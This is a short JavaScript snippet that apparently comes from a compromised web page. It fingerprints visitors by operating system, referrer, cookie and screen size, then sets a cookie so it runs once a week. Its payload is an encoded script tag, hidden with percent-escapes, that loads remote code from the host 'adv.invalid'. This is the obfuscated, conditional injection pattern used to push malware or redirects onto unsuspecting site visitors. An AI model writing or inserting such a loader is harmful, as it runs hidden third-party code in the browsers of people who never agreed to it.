var m = navigator.appVersion, r = document.referrer.toLowerCase();
var ok = 0;
if (m.indexOf('Win') != -1 && r != '') { ok++; }
if (document.cookie.indexOf('visited_site=yes') == -1) { ok++; }
if (screen.availHeight > 600) { ok++; }
if (ok == 3) {
  var exp = new Date();
  exp.setDate(exp.getDate() + 7);
  document.cookie = 'visited_site=yes; expires=' + exp.toGMTString() + '; path=/';
  var p = '%3C%73%63%72%69%70%74%20%73%72%63%3D%22';
  var q = '%2F%2F%61%64%76%2E%69%6E%76%61%6C%69%64%2F%6A';
  var e = '%22%3E%3C%2F%73%63%72%69%70%74%3E';
  document.write(unescape(p + q + e));
}
